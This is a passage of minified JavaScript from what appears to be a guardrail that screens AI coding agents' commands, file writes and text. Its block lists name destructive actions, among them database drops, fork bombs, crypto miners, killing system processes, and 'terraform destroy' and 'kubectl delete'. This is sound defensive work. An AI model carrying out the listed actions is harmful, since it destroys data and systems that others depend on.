pository","remote repository","the fork"],"without":["pattern","class","interface","method","from the","in the","inside the","file","files","unused","layer","fo\
lder","link","secret","docs","cache","file","root"],"trust":4},{"verbs":["clean"],"objects":["untracked files","git clean"],"trust":3},{"verbs":["expire","clear\
","empty","drop","prune"],"objects":["reflog","git reflog","unreachable commits","dangling commits"],"trust":4}]},{"code":"destructive_operation_blocked","id":"\
text-destroy-database","category":"databases","severity":"severe","explanation":"says that data of a database will be lost; work on a copy, or name the rows","p\
hrases":[{"verbs":["remove"],"objects":["all user accounts","user accounts","all users","all accounts","all records","all rows","all tables"],"without":["test",\
"tests","testing","local","dev","development","fixture*","mock*","sandbox","scratch","in-memory","temporary","temp","connection*","pool","migration*","support",\
"driver","dependency","staging copy","row from","unused","docker-compose"]},{"verbs":["drop","delete","wipe","destroy","erase","purge","nuke","obliterate","clea\
r","reset","empty","flush","blow away","wipe out"],"objects":["database","databases","production db","prod db","the db","production database","schema","schemas"\
,"keyspace","all tables","all the tables","every table","all rows","all the rows","every row","all records","all the records","every record","all users","all us\
er accounts","all customers","customer data","customer records","user records","customer table","user accounts","all accounts","production data","user data","re\
dis","mongodb","all documents","all collections","prod data"],"without":["test","tests","testing","local","dev","development","fixture*","mock*","sandbox","scra\
tch","in-memory","temporary","temp","connection*","pool","migration*","support","driver","dependency","staging copy","row from","unused","docker-compose"]},{"ve\
rbs":["drop","truncate"],"objects":["table","tables","users table","collection","collections","index on production","production"],"without":["test","tests","tes\
ting","local","dev","development","fixture*","mock*","sandbox","scratch","in-memory","temporary","temp","connection*","pool","migration*","support","driver","de\
pendency","staging copy","row from","unused","docker-compose","of contents","cell","column width","string*","message*","text","title*","view"]},{"verbs":["run",\
"execute"],"objects":["drop table","drop database","truncate table","delete from"],"without":["test*"]},{"verbs":["flush"],"objects":["redis","all keys","the wh\
ole cache","flushall"]}]},{"code":"destructive_operation_blocked","id":"text-kill","category":"processes","severity":"severe","explanation":"says that processes\
 will be ended that are not the agent's; end your own by their number","phrases":[{"verbs":["stop","kill","disable","mask","terminate","shut down"],"objects":["\
ssh service","sshd service","ssh daemon","ssh server","network service","networking","network interface","cron daemon","syslog"],"without":["test*"]},{"verbs":[\
"kill","terminate","stop","end","killall","pkill","abort","halt","shut down"],"objects":["all processes","every process","all running processes","all the proces\
ses","all other processes","other processes","system processes","every running process","all services","init","init process","systemd","sshd","ssh daemon","pid \
1","processes owned by","processes of other","all user processes","everything running","all daemons","all jobs on","kernel","all python processes","all node pro\
cesses","docker daemon","dockerd"],"without":["test*","docs","after all"]},{"verbs":["reboot","restart","halt","shutdown","crash","poweroff","shut down","power \
off","bring down","take down"],"objects":["machine","server","host","system","computer","node","box","laptop","production","vm","the site"],"without":["dev serv\
er","development server","test server","web server","local server","http server","mock server","vite","webpack","language server","typescript server","server gr\
acefully","express","graceful*","server in","test*","node process","nodemon","docs","jest","preview","container"]},{"verbs":["run","launch","start","execute","c\
reate","trigger","write"],"objects":["fork bomb","fork-bomb","forkbomb","infinite fork","crypto miner","cryptominer","denial of service","dos attack","ddos"],"w\
ithout":["test*","detection","protection","detector","rule"]},{"verbs":["spawn","fork","start","launch","create"],"objects":["copies","itself","processes","chil\
dren","threads"],"with":["endlessly","infinitely","without end","without limit","forever","until the host","until the machine","until the system","until the ser\
ver","until memory"],"without":["test*","docs","detection","pool"]},{"verbs":["fill","exhaust","use up"],"objects":["the disk","all memory","all the memory","di\
sk space","all disk"],"without":["test*"]}]},{"code":"destructive_operation_blocked","id":"text-publish","category":"publishing","severity":"severe","explanatio\
n":"says that something will be published, which cannot be taken back; leave releases to people","phrases":[{"verbs":["publish","unpublish","release","push","up\
load","deploy","ship"],"objects":["to npm","to pypi","to crates","to rubygems","to maven","to docker hub","to dockerhub","npm registry","to the registry","publi\
c registry","to nuget","to packagist","to the marketplace","npm package","the package","package to","this package","our package","the crate","the gem","new vers\
ion of the package","the library to","wheel to"],"without":["test registry","local registry","verdaccio","testpypi","docs","documentation","message*","dry-run",\
"dry run","event*","workflow","draft","job","lock"]},{"verbs":["unpublish","yank"],"objects":["package","version","release","crate","gem","npm"]},{"verbs":["pub\
lish"],"objects":["package","packages","release"]},{"verbs":["deploy"],"objects":["to production","to prod","production"],"without":["docs","guide","workflow","\
script","documentation","config*"]}]},{"code":"destructive_operation_blocked","id":"text-destroy-infrastructure","category":"containers-and-clouds","severity":"\
severe","explanation":"says that containers, clusters, or cloud resources will be destroyed; leave what others run alone","phrases":[{"verbs":["delete","destroy\
","terminate","remove","wipe","prune","nuke","drop","drain","purge","empty","deprovision","tear down","take down","shut down","scale down","scale to zero","brin\
g down","clean up"],"objects":["cluster","clusters","namespace","namespaces","all pods","every pod","all deployments","all containers","every container","all im\
ages","all docker images","all volumes","docker volumes","all docker","s3 bucket","s3 buckets","bucket","buckets","ec2 instance*","all instances","instances","i\
nfrastructure","cloudformation stack","the stack","terraform state","terraform resources","resource group","vpc","load balancer","dns zone","all resources","pro\
duction environment","prod environment","production","prod","production server*","kubernetes nodes","persistent volume*","rds","lambda functions","gcp project",\
"aws account","azure subscription","docker system"],"without":["test","tests","testing","local","dev","development","fixture*","mock*","sandbox","scratch","in-m\
emory","temporary","temp","connection*","pool","migration*","support","driver","dependency","staging copy","row from","unused","docker-compose","c++","php","jav\
a","using namespace","xml","xmlns","css","import*","typescript","prefix","kind","minikube","console*","logging","stack trace","stack overflow","code path","docs\
","build"]},{"verbs":["run","apply"],"objects":["terraform destroy","kubectl delete","docker system prune"]}]}]`);var Ui=Qh;var{forms:Qc}=S,wS=64,kS=65536,vS=5e3,xS=1500,Kt=S.sentences,$S=[{...Ui[0],id:"run",phrases:[{verbs:[...Kt.run_verbs,"finish with"],objects:[]}]}],Xc=Se(Uh,new WeakMap);
function Xh(t,e=[],s=0){if(t.length>kS)return{findings:[],commands:[],problem:"too-long"};let r=0,n=[],o=[],i=Xc(Ui),a=[i,Xc(e)],l=!1,c=!0,d,u=Hh(t);if(u.length>
vS)return{findings:n,commands:o,problem:"too-much"};for(let p of u){if(n.length>=wS)break;if(p.kind==="prompt"){l||o.push(p.command);continue}if(p.kind==="fence"){
!l&&c&&o.push(...ES(p.language,p.code));continue}let{sentence:f,named:m}=TS(p.sentence,d);d=m;let h=l&&f.item;if((f.heading||!f.item)&&(l=(f.leads||f.heading)&&
Yh(f)),h||f.heading)continue;let g=Gh(f),y=g?[]:SS(f);if(c=!g&&(f.leads?!l:y.length>0),!g){if(r+=f.words.filter(({text:x})=>i.has(x)).length,r>xS)return{findings:n,
commands:o,problem:"too-much"};for(let x of a)for(let{rule:_,at:E,form:$}of Kc(x,f.words,s))Vi(f,E,$)&&n.push(_);o.push(..._S(f.words,y),...CS(t,f,y))}}return{findings:n,
commands:o}}function _S(t,e){return t.flatMap((s,r)=>{if(s.kind!=="code")return[];let n=e.findLast(a=>a<r),o=t.slice((n??0)+1,r),i=n!==void 0&&o.length<24&&!o.some(
a=>Kt.separates.has(it(a)));return t.length===1||i?[s.text]:[]})}var SS=t=>Kc(Xc($S),t.words).filter(({at:e,form:s})=>Vi(t,e,s)).map(({at:e})=>e);function CS(t,e,s){
let{words:r}=e;return r.flatMap((n,o)=>{let i=r[o+1],a=it(n).replace(/^mkfs\..*/,"mkfs");if(!Kt.command_names.has(a)||n.stop!==void 0||i?.kind!=="plain")return[];
if(!Qc.command_argument.test(i.text)&&!Kt.command_verbs.has(i.text))return[];if(!s.includes(o-1)&&!Vi(e,o,"base"))return[];let c=r.findIndex(({stop:d},u)=>u>o&&
(d!==void 0||Qc.command_end.test(r[u+1]?.text??"and")));return[t.slice(n.start,r[c].end).replace(/(?<=\w)[.!]+$/,"")]})}function ES(t,e){let s=S.fences.get(t);if(s)
return[`${s} '${e.replaceAll("'","'\\''")}'`];if(t!==""&&!Kt.shells.has(t))return[];let r=e.split(`
`),n=r.filter(i=>/^\s*\$ /.test(i)).map(i=>i.replace(/^\s*\$ /,"")),o=(n.length>0?n:r).join(`
`).trim();return o===""?[]:[o]}var AS=Gc("credential");function TS(t,e){let s=e,r,n=[];for(let[o,i]of t.words.entries()){if(s&&PS(t.words,o,s)){let{start:a,end:l,
stop:c}=i;n.push(...s.map(({text:d,kind:u})=>({start:a,end:l,text:d,kind:u}))),c!==void 0&&(n.at(-1).stop=c);continue}n.push(i),r=RS(i,t.words[o-1])??r,s=r??s}return{
sentence:{...t,words:n},named:r}}function PS(t,e,s){let r=it(t[e]),n=Kt.heads.has(r)&&Kt.one_of.has(t[e-1]?.text??"");if(!n&&!Kt.pronouns.has(r))return!1;let o=t[e-
(n?2:1)]?.text??"";return s.at(-1).text==="remote"?Kt.overwrites.has(o):Kt.passes_on.has(o)}function RS(t,e){if(AS(t.text))return[t];if(!(t.kind!=="plain"||!e||
e.stop!==void 0))return Qc.valuable_things.test(`${e.text} ${t.text}`)?[e,t]:void 0}var Hi=lm,IS=100,Jh=50,qS={"unreadable-command":"The command $. Write it plainly, or in several steps.","unparsed-command":"No shell reads this: $. Give the com\
mand alone; what is no command belongs in a file or an answer.","unverifiable-command":"Nobody can say before it runs which program this is, and it may be a dan\
gerous one. $","unreadable-text":"The text is too long to be judged. Say it in parts."},qs=(t=Hi)=>new Jc(OS(t)),OS=Se(t=>new ui(t),new WeakMap),Jc=class{constructor(e){
this.book=e}book;files=new Or;downloads=new ai;latest;judge(e,s){return"command"in e?this.judgeCommand(e.command,{principal:s,folder:e.folder,format:"code"},e.reading):
"write"in e?this.judgeWrite(e,s):this.judgeText(e.text,s)}parse(e,s){let{latest:r,files:n}=this;if(r?.line===e&&r.folder===s&&r.version===n.version)return r.reading;
let o=Mi(e,{files:n,readCode:Jo,folder:s});return this.latest={line:e,folder:s,version:n.version,reading:o},o}judgeCommand(e,s,r=this.parse(e,s.folder)){let{format:n}=s,
o=this.judgeReading(r,s),{problem:i}=r;if(i&&i.kind!=="unparsable"&&!Zh(o)){let a=this.judgeParts(e,s);if(a)return a}if(o.verdict==="deny"&&o.rule==="unreadable\
-command"&&i?.kind==="unparsable"){let a=ff(e),l=i.detail.replace(/^cannot be parsed: /,"");return Kr("unparsed-command",a===void 0?l:`${l}; it looks like ${a}`,
n)}return o.verdict==="allow"&&n==="code"&&pf(e)?Kr("unparsed-command","it is JSON",n):o}judgeParts(e,s){let r=n=>Mi(n,{readCode:Jo,folder:s.folder});for(let n of Ph(
e)){let o=r(n.join(`
`));for(let{invocations:i,problem:a}of o.problem?n.map(r):[o]){if(a?.kind==="unparsable")continue;let l=this.judgeReading({invocations:i},s);if(Zh(l))return l}}}judgeReading({
invocations:e,problem:s},r){let{principal:n,folder:o,format:i}=r,a={workspace:n.workspace??wn,folder:o,invocations:e,downloads:this.downloads,fetched:e.some(Nr)},
l=s?e.slice(0,IS):e,{worst:c,guess:d,unknown:u,undecided:p}=this.examine(l,a,n);if(c)return Zc(c,i);if(s)return Kr("unreadable-command",`is too much to read: ${s.
detail}`,i);if(p){let m=`what ${p.program.includes("\uFFFC")?"a program":p.program.slice(0,40)} is given, or where it runs, is not known`;return Kr("unreadable-\
command",`cannot be read to its end: ${m}`,i)}return!d&&u<=Jh?{verdict:"allow",format:i}:Kr("unverifiable-command",d?.explanation??"Write the names of programs.",
i)}examine(e,s,r){let{book:n}=this,o,i,a,l=0,c=[];for(let d of e){let u=new Ss(d,s);if(o=n.selectWorse(o,n.findBrokenRule(u,r)),u.purpose===void 0&&c.push(d),!i&&
d.program.includes("\uFFFC")&&(l+=1,l<=Jh&&(i=n.findWorstCaseRule(d,s,r))),n.hasUnreadRisk(d,s,r)&&(a??=d),this.downloads.record(d),o?.severity==="catastrophic")
break}if(o?.severity!=="catastrophic")for(let d of qf(c,s.invocations))o=n.selectWorse(o,n.findBrokenRule(new Ss(d,s),r));return{worst:o,guess:i,unknown:l,undecided:a}}judgeWrite(e,s){
let{write:r,content:n,replaces:o}=e,i=Et("edit-tool",[],[{kind:"write",path:R(r)}]),a=this.judgeReading({invocations:[i]},{principal:s,folder:void 0,format:"cod\
e"});if(a.verdict==="deny"||n===void 0)return a;let{workspace:l=wn}=s,c=r.startsWith(`${l}/`)?r.slice(l.length+1):r,{files:d}=this;for(let u of new Set([r,c,`${l}\
/${c}`])){let p=d.written(u)?.text;o===void 0?d.write(u,n):o===""||!p?.includes(o)?d.append(u,`
${n}
`):d.write(u,p.replace(o,n.replaceAll("$","$$$$")))}return a}judgeText(e,s){let r="natural_text",n=this.book.getPhraseRules(s),{findings:o,commands:i,problem:a}=Xh(
e,n,s.trust),l=d=>n.some(u=>u.id===d)?0:1,[c]=[...o.map(d=>Zc(d,r)).sort((d,u)=>l(d.rule)-l(u.rule)),...i.map(d=>this.judgeCommand(d,{principal:s,folder:void 0,
format:r}))].filter(d=>d.verdict==="deny").sort((d,u)=>Mt[d.severity]-Mt[u.severity]);return c||(a?Kr("unreadable-text","",r):{verdict:"allow",format:r})}},Zh=t=>t.
verdict==="deny"&&t.severity==="catastrophic";function Kr(t,e,s){let r=t==="unparsed-command"?"unparsed":"unreadable",n=qS[t].replace("$",()=>e);return Zc({id:t,
category:r,severity:"severe",code:"destructive_operation_blocked",explanation:n},s)}function Zc(t,e){let{id:s,category:r,severity:n,code:o,explanation:i}=t,a=i.
replace(/\s+/g," ").trim();return{verdict:"deny",rule:s,category:r,severity:n,code:o,reason:a,format:e}}ar();var Bi=class{principal;constructor({trust:e=2,workspace:s}={}){if(!Number.isInteger(e)||e<0||e>4)throw new RangeError(`trust is ${e}, not 0 to 4`);this.principal=
s===void 0?{trust:e}:{trust:e,workspace:s}}check_all(e){if(!Array.isArray(e))throw new RangeError("the acts of a run are a list");let s=qs(),r=e.map((o,i)=>{if(!NS(
o))throw new RangeError(`act ${i} has no command, write or text`);return s.judge(o,this.principal)}),n=r.filter(({verdict:o})=>o==="deny").length;return{verdicts:r,
guardrail_checks:r.length,guardrail_blocks:n,guardrail_block_rate:r.length===0?0:n/r.length}}},NS=t=>["command","write","text"].some(e=>typeof t?.[e]=="string");var LS=()=>qs();var ko=require("node:path");Qr();ar();Qr();var Yt={stdout:"",stderr:"",exit_code:0},Qt=t=>({stdout:"",stderr:`${t}
`,exit_code:2}),Ge=t=>({stdout:`${JSON.stringify(t)}
`,stderr:"",exit_code:0}),Os=(t,e)=>e===""?t:{...t,stderr:`${e}
${t.stderr}`};var sg=require("node:path");gt();var ve=class extends Error{name="HookInputError"},Ns=t=>typeof t=="object"&&t!==null&&!Array.isArray(t);function Xt(t,e){let s=t[e];
if(!Ns(s))throw new ve(`"${e}" is no object`);return s}function Re(t,...e){let s=e.find(n=>t[n]!==void 0&&t[n]!==null);if(s===void 0)return;let r=t[s];if(typeof r!=
"string")throw new ve(`"${s}" is no text`);return r}function be(t,...e){let s=Re(t,...e);if(s===void 0||s.trim()==="")throw new ve(`"${e[0]}" is missing`);return s}
function Jt(t,...e){let s=be(t,"hook_event_name");if(!e.includes(s))throw new ve(`the event "${s.slice(0,60)}" is unknown`);return s}var Zt=(t,e)=>t===void 0?e:
sg.posix.resolve(t,e),Ke=(t,e)=>e===void 0?{command:t}:{command:t,folder:e};function Ye(t,e,s){let r=Zt(e,be(t,...s.path)),n=Re(t,...s.content),o=s.replaces&&Re(
t,...s.replaces);return{write:r,...we({content:n,replaces:o})}}function zi(t){let e;try{e=JSON.parse(new TextDecoder("utf-8",{fatal:!0}).decode(t))}catch{throw new ve(
"the input is not JSON")}if(!Ns(e))throw new ve("the input is no object of JSON");return e}var VS=["command","cmd","script"];function ed(t){return typeof t=="st\
ring"?t.trim()===""?void 0:t:Array.isArray(t)&&t.length>0&&t.every(s=>typeof s=="string")?t.map(Wn).join(" "):void 0}function _t(t,e){let s=t.workdir,r=typeof s==
"string"&&s!==""?Zt(e,s):e;return VS.flatMap(n=>{let o=ed(t[n]);return o===void 0?[]:[Ke(o,r)]})}var Wn=t=>`'${t.replaceAll("'","'\\''")}'`,St=t=>t.trim().toLowerCase();var rg={can_ask:!0,project_variable:"CLAUDE_PROJECT_DIR",readCall(t){Jt(t,"PreToolUse");let e=Re(t,"cwd");return{folder:e,requests:US(be(t,"tool_name"),Xt(t,"to\
ol_input"),e)}},formatAnswer({decision:t,message:e}){return t!=="none"?td(t,e):e===""?Yt:Ge({systemMessage:e})},formatRefusal:Qt},td=(t,e)=>Ge({hookSpecificOutput:{
hookEventName:"PreToolUse",permissionDecision:t,permissionDecisionReason:e}});function US(t,e,s){switch(St(t)){case"bash":case"powershell":return[Ke(be(e,"comma\
nd"),s)];case"monitor":return Ns(e.ws)&&e.command===void 0?[]:[Ke(be(e,"command"),s)];case"write":return[Ye(e,s,{path:["file_path"],content:["content"]})];case"\
edit":return[Ye(e,s,ng)];case"multiedit":return HS(e,s);case"notebookedit":return[Ye(e,s,{path:["notebook_path"],content:["new_source"]})];default:return _t(e,s)}}
var ng={path:["file_path"],content:["new_string"],replaces:["old_string"]};function HS(t,e){let{edits:s}=t,r=be(t,"file_path");if(!Array.isArray(s)||s.length===
0||!s.every(Ns))throw new ve('"edits" is no list of edits');return s.map(n=>Ye({...n,file_path:r},e,ng))}var BS=/^\*\*\* (Add File|Update File|Delete File|Move to): (.+)$/,zS=/^\*\*\* (Begin Patch|End Patch|End of File)$/,GS=/^\*{3}|^\s*\*{3}\s*[a-z]/i,KS=/^[\s\u0085]+|[\s\u0085]+$/g;
function Ls(t,e){let s=[],r,n=()=>{let o=s.at(-1);r&&o&&"write"in o&&(o.content=`${r.join(`
`)}
`),r=void 0};for(let o of t.split(/\r?\n/)){let i=o.replace(KS,""),[,a,l]=BS.exec(i)??[];if(a===void 0||l===void 0){if(o.startsWith("+"))r?.push(o.slice(1));else if(GS.
test(o)&&!zS.test(i))throw new ve(`the line "${i.slice(0,60)}" of the patch is not understood`);continue}n();let c=Zt(e,l.trim());a==="Delete File"?s.push({command:`\
rm -f -- ${Wn(c)}`}):s.push({write:c}),a==="Add File"&&(r=[])}if(n(),s.length===0)throw new ve("the patch names no file");return s}var ig={can_ask:!1,readCall(t){Jt(t,"PreToolUse");let e=Re(t,"cwd");return{folder:e,requests:YS(be(t,"tool_name"),Xt(t,"tool_input"),e)}},formatAnswer({decision:t,
message:e}){return t!=="none"?td("deny",e):e===""?Yt:Ge({systemMessage:e})},formatRefusal:Qt};function YS(t,e,s){switch(St(t)){case"bash":case"shell":case"local\
_shell":case"exec_command":return[Ke(QS(e),og(e,s))];case"apply_patch":return Ls(be(e,"command","input","patch"),og(e,s));default:return _t(e,s)}}function og(t,e){
let s=Re(t,"workdir");return s===void 0||s===""?e:Zt(e,s)}function QS(t){let{command:e}=t;if(!Array.isArray(e))return be(t,"command","cmd");let s=ed(e);if(s===void 0)
throw new ve('"command" is no list of words');return s}var lg={can_ask:!0,project_variable:"COPILOT_PROJECT_DIR",readCall(t){let e=Re(t,"cwd"),s=be(t,"toolName");return{folder:e,requests:XS(s,t.toolArgs,e)}},formatAnswer({
decision:t,message:e}){return t==="none"?Os(Yt,e):Ge({permissionDecision:t,permissionDecisionReason:e})},formatRefusal:t=>Os(Ge({permissionDecision:"deny",permissionDecisionReason:t}),
t)};function XS(t,e,s){switch(St(t)){case"bash":case"powershell":case"local_shell":return[Ke(be(hr(e),"command"),s)];case"write_bash":case"write_powershell":{let r=Re(
hr(e),"input")??"";return r.trim()===""?[]:[Ke(r,s)]}case"create":return[Ye(hr(e),s,{path:["path"],content:["file_text"]})];case"edit":case"str_replace":case"in\
sert":return[Ye(hr(e),s,ag)];case"str_replace_editor":{let r=hr(e);return r.command==="view"?[]:[Ye(r,s,ag)]}case"apply_patch":return Ls(JS(e),s);default:return Ns(
e)||cg(e)?_t(hr(e),s):[]}}var ag={path:["path"],content:["new_str","file_text","insert_text"],replaces:["old_str"]};function hr(t){if(typeof t=="string")return zi(
Buffer.from(t));if(!Ns(t))throw new ve('"toolArgs" is no object');return t}var JS=t=>typeof t=="string"&&!cg(t)?t:be(hr(t),"input","patch"),cg=t=>typeof t=="str\
ing"&&t.trimStart().startsWith("{");var pg={can_ask:!1,project_variable:"CURSOR_PROJECT_DIR",readCall(t){let e=Jt(t,"beforeShellExecution","preToolUse"),[s]=Array.isArray(t.workspace_roots)?t.workspace_roots:
[],r=typeof s=="string"?s:void 0,n=Re(t,"cwd")||r,o=e==="preToolUse"?ZS(be(t,"tool_name"),Xt(t,"tool_input"),n):[Ke(be(t,"command"),n)];return{folder:n,project:r,
requests:o}},formatAnswer:({decision:t,message:e})=>t==="none"?Os(Ge({}),e):dg(e),formatRefusal:t=>({...Os(dg(t),t),exit_code:2})},dg=t=>Ge({permission:"deny",user_message:t,
agent_message:t});function ZS(t,e,s){switch(St(t)){case"shell":return[Ke(be(e,"command"),Re(e,"working_directory")||s)];case"write":case"edit":case"multiedit":case"\
strreplace":case"notebookedit":return[Ye(e,s,ug)];case"delete":{let r=be(e,...ug.path);return[Ke(`rm -f -- ${Wn(r)}`,s)]}default:return _t(e,s)}}var ug={path:["\
file_path","path","target_file","notebook_path","target_notebook"],content:["content","contents","new_string","file_text"],replaces:["old_string"]};var fg={can_ask:!0,project_variable:"GEMINI_PROJECT_DIR",readCall(t){Jt(t,"BeforeTool");let e=Re(t,"cwd");return{folder:e,requests:e1(be(t,"tool_name"),Xt(t,"to\
ol_input"),e)}},formatAnswer({decision:t,message:e}){return t==="deny"?Ge({decision:t,reason:e}):t==="ask"?Ge({decision:t,reason:e,systemMessage:e}):e===""?Yt:Ge(
{systemMessage:e})},formatRefusal:Qt};function e1(t,e,s){switch(St(t)){case"run_shell_command":{let r=Re(e,"dir_path","directory"),n=r===void 0?s:Zt(s,r);return[
Ke(be(e,"command"),n)]}case"write_file":return[Ye(e,s,{path:["file_path"],content:["content"]})];case"replace":case"edit":return[Ye(e,s,{path:["file_path"],content:[
"new_string"],replaces:["old_string"]})];default:return _t(e,s)}}var mg={can_ask:!1,readCall(t){Jt(t,"tool.execute.before");let e=Re(t,"directory"),s=be(t,"tool"),r=Re(t,"worktree");return{folder:e,project:r==="/"?e:r,requests:t1(
s,Xt(t,"args"),e)}},formatAnswer({decision:t,message:e}){return t==="none"?Os(Yt,e):Ge({deny:e})},formatRefusal:Qt};function t1(t,e,s){switch(St(t)){case"bash":{
let r=Re(e,"workdir"),n=r===void 0?s:Zt(s,r);return[Ke(be(e,"command"),n)]}case"write":return[Ye(e,s,{path:["filePath"],content:["content"]})];case"edit":case"m\
ultiedit":return[Ye(e,s,{path:["filePath"],content:["newString"],replaces:["oldString"]})];case"patch":case"apply_patch":return Ls(be(e,"patchText","patch","inp\
ut"),s);default:return _t(e,s)}}var es={"claude-code":rg,codex:ig,gemini:fg,copilot:lg,opencode:mg,cursor:pg},hg=Object.keys(es),sd=t=>t!==void 0&&Object.hasOwn(es,t);gt();ar();var Ki=require("node:path");var Gi=require("node:path");var gg={rm:"all",unlink:"all",rmdir:"all",mkdir:"all",patch:"all",shred:"all",truncate:"all",touch:"all",tee:"all",mv:"all",cp:"last",install:"last",ln:"last",rsync:"\
last",chmod:"all-but-first",chown:"all-but-first",chgrp:"all-but-first",sed:"in-place",perl:"in-place",ruby:"in-place",dd:"dd",git:"git",tar:"unpack",unzip:"unp\
ack"},s1=new Set(["rm","mv","checkout","restore"]),r1=new Set(["-C","--directory","-d"]),n1=new Set(["rm","mv","chmod","chown","chgrp","cp","rsync","shred","git",
"find"]),o1=5e3;function rd(t,e){return t.flatMap(s=>i1(s,t,e)).slice(0,o1)}function i1(t,e,s){let r=t.folder&&Ie(t.folder)?Gi.posix.resolve(s,t.folder.text):s,
n=(c,d)=>{if(!Ie(c)||c.text.startsWith("~"))return[];let u=Gi.posix.relative(s,Gi.posix.resolve(r,c.text));return u===".."||u.startsWith("../")?[]:[{path:u,below:d,
glob:c.glob}]},o=t.redirects.filter(({kind:c})=>c!=="read").flatMap(({path:c})=>n(c,!1)),i=n1.has(t.program),a=or(t,e),l=[...l1({program:t.program,args:a}),...a1(
{program:t.program,args:a})];return[...o,...l.flatMap(c=>n(c,i))]}function a1({program:t,args:e}){if(t==="find")return si(e);let{writes:s,deletes:r,moves:n,changes:o}=vn(
t,_e(t,e));return[...s,...r,...n,...o]}function l1({program:t,args:e}){let s=Object.hasOwn(gg,t)?gg[t]:void 0,r=e.findIndex(({text:o})=>o==="--"),n=e.filter(({text:o},i)=>r>=
0&&i>r||!o.startsWith("-"));switch(s){case void 0:return[];case"all":return n;case"last":{let o=e.findIndex(({text:i})=>i==="-t"||i==="--target-directory");return o>=
0?e.slice(o+1,o+2):n.slice(-1)}case"all-but-first":return n.slice(1);case"in-place":return e.some(({text:o})=>/^(-[a-zA-Z]*i|--in-place)/.test(o))?n:[];case"dd":
return e.filter(({text:o})=>o.startsWith("of=")).map(o=>({...o,text:o.text.slice(3)}));case"git":return s1.has(n[0]?.text??"")?n.slice(1):[];case"unpack":return e.
filter((o,i)=>r1.has(e[i-1]?.text??""));default:return s}}var Ds=".gatebench/guard.yml",nd=(t="strict")=>({level:t,rules:Hi,allow:new Set,ignored:new Set,deny:new Set,files:[]}),bg=(t,e)=>t==="strict"?t:e??t??"strict";var c1=[Ds,".claude/settings.json",".claude/settings.local.json",".codex/hooks.json",".codex/config.toml",".gemini/settings.json",".cursor/hooks.json",".github/\
hooks/gatebench-guard.json",".copilot/hooks/gatebench-guard.json",".opencode/plugins/gatebench-guard.js",".config/opencode/plugins/gatebench-guard.js"].map(t=>t.
split("/")),d1=new Set([".github",".config"]);function vg(t,{folder:e,home:s},r,n){if("write"in t)return yg(Ki.posix.resolve("/",t.write),r,{});if(!("command"in
t))return;if(n.some(m1))return"gatebench guard";let o=n.map(l=>b1(l,t.folder??e??"/",s)),i=rd(o.filter(h1),"/").map(({path:l})=>l),a=o.some(({program:l,wrappers:c})=>[
l,...c].some(d=>u1.has(d)));for(let{path:l,below:c,glob:d}of rd(o,"/")){let u=yg(`/${l}`,r,{below:c,glob:d,copied:i.includes(l),deep:d&&a});if(u!==void 0)return u}}
function xg({folder:t},e,s){if(!t)return e;let r=_g(t.text,s);if(!(r.includes("\uFFFC")||r.startsWith("~")))return Ki.posix.resolve(e??"/",r)}var u1=new Set(["f\
ind","fd","fdfind"]),$g=new Set(["npm","pnpm","yarn","bun"]),p1=new Set([...$g,"gatebench","npx","pnpx","bunx","node","deno"]),f1=new Set(["uninstall","un","unl\
ink","remove","rm","r"]);function m1({program:t,path:e,args:s}){let r=s.map(({text:a})=>a.toLowerCase()),n=t.toLowerCase().replace(/\.(exe|cmd|ps1)$/,"");if($g.
has(n)&&r.some(a=>f1.has(a))&&r.some(a=>/^(@[^/]+\/)?gatebench(@|$)/.test(a)))return!0;let o=r.indexOf("guard");return o!==-1&&r.slice(o).some(a=>a==="install"||
a==="uninstall")&&(p1.has(n)||e.toLowerCase().includes("gatebench"))}var h1=({program:t,args:e})=>t==="cp"&&!e.some(({text:s})=>/^-[a-z]*[rRa]|^--(recursive|archive)/.
test(s));function yg(t,e,{below:s,glob:r,copied:n,deep:o}){let i=wg(t),a=i.map(m=>kg(m,r===!0)),l=(m,h)=>a.slice(h,h+m.length).every((g,y)=>g(m[y])),c=s===!0||r===
!0,d=i.findIndex(m=>/[*?[]/.test(m)),u=o===!0&&d!==-1?d:Number.POSITIVE_INFINITY,p=i.at(-1)??"",f=kg(p,!0,!0);for(let m of e){let h=wg(m),g=c&&n!==!0&&i.length<
h.length&&l(h.slice(0,i.length),0),y=u<h.length&&l(h.slice(0,u),0)&&f(h.at(-1));if(g||y||i.length>=h.length&&l(h,0))return m}for(let m of c1){let h=m.join("/");
if(i.length>=m.length&&l(m,i.length-m.length)||u<i.length&&!/^\*+(\.\w+)?$/.test(p)&&f(m.at(-1)))return h;for(let y=1;y<m.length;y+=1){let x=m.slice(0,y);if(d1.
has(x.at(-1)))continue;if((x[0]===".gatebench"||c)&&i.length>=y&&l(x,i.length-y)||u>=y&&u<i.length&&l(x,u-y)&&f(m.at(-1)))return h}}}var wg=t=>t.toLowerCase().split(
"/").filter(e=>e!=="");function kg(t,e,s=!1){if(!e||!/[*?[]/.test(t))return o=>o===t;let r=t.split(/(\*+|\?|\[[^\]]*\])/).map(o=>/^\*+$/.test(o)?".*":o==="?"||o.
startsWith("[")?".":o.replace(/[\\^$.*+?()[\]{}|]/g,"\\$&"));if(r.length>g1)return()=>!0;let n=new RegExp(`^${r.join("")}$`,"s");return o=>(s||!o.startsWith(".")||
!/^[*?]/.test(t))&&n.test(o)}var g1=16,_g=(t,e)=>e===void 0?t:t.replace(/^(~|\$HOME|\$\{HOME\})(?=\/|$)/,()=>e);function b1(t,e,s){let r=o=>{let i=_g(o.text,s);
return i===o.text?o:{...o,text:i}},n=t.folder&&r(t.folder).text;return{...t,args:t.args.map(r),redirects:t.redirects.map(o=>({...o,path:r(o.path)})),folder:{text:n===
void 0?e:Ki.posix.resolve(e,n),glob:!1}}}var y1=500,w1=2,Sg={deny:0,ask:1,none:2};function Eg({folder:t,requests:e},s,{top:r,home:n,own_files:o,variables:i,isLate:a}){let l={trust:w1,workspace:r,level:s.
level},c=qs(v1(s)),d=s.allow.size>0?qs(s.rules):void 0,u=[...s.files,...o];Cg(e.length);let p=e.flatMap($1(c,{folder:t,home:n}));return Cg(p.length),p.flatMap(m=>{
if(a())throw new ve("judging it takes too long");let h="command"in m?k1(c,m,i):[];return[S1(m,{guard:c,plain:d,principal:l,settings:s}),...E1(m,h,{folder:t,home:n,
files:u})]}).reduce((m,h)=>m&&Sg[m.decision]<=Sg[h.decision]?m:h,void 0)}function Cg(t){if(t>y1)throw new ve("too many edits in one call")}function k1(t,{command:e,
